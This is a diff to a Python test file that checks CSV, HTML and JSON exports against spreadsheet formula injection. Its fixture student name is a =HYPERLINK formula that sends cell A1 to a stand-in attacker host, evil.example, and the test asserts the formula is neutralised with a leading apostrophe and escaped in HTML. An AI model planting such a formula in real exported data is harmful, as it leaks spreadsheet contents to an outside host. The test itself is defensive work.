@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -118,9 +119,13 @@ def strings(value: object) -> Iterator[str]:
         yield from strings(part)
 
 
-def test_formula_stays_text_in_json_and_page(fought: Fight) -> None:
-    """Nothing is written as CSV yet: a name that is a formula stands unchanged, in quotation marks or between tags."""
-    assert not [name for name in fought.written if name.endswith((".csv", ".tsv", ".xlsx"))]
+def test_formula_stays_text_in_json_page_and_table(fought: Fight) -> None:
+    """A name that is a formula stands unchanged in quotation marks or between tags; in a cell an apostrophe leads."""
+    assert [name for name in fought.written if name.endswith((".csv", ".tsv", ".xlsx"))] == ["grades.csv"]
+    rows = list(csv.reader(io.StringIO(fought.written["grades.csv"].decode())))
+    assert """'=HYPERLINK("https:evil.example"&A1,"me")""" in [cell for row in rows for cell in row]
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert {len(row) for row in rows} == {len(rows[0])}
     result = fought.results["F93_is_called_by_a_formula"]
     assert result["student"] == '=HYPERLINK("https:evil.example"&A1,"me")'
     assert b"<td>=HYPERLINK(&#34;https:evil.example&#34;&amp;A1,&#34;me&#34;)</td>" in fought.written["report.html"]
